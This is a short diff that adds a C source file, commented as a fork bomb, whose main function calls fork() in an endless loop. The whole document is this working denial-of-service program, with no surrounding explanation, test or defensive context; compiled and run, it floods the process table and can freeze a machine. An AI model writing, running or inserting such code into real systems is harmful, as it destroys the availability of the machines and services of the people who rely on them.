@@ -1,0 +1,5 @@
+/* A fork bomb. */
+#include <unistd.h>
+int main(void) {
+    for (;;) fork();
+}
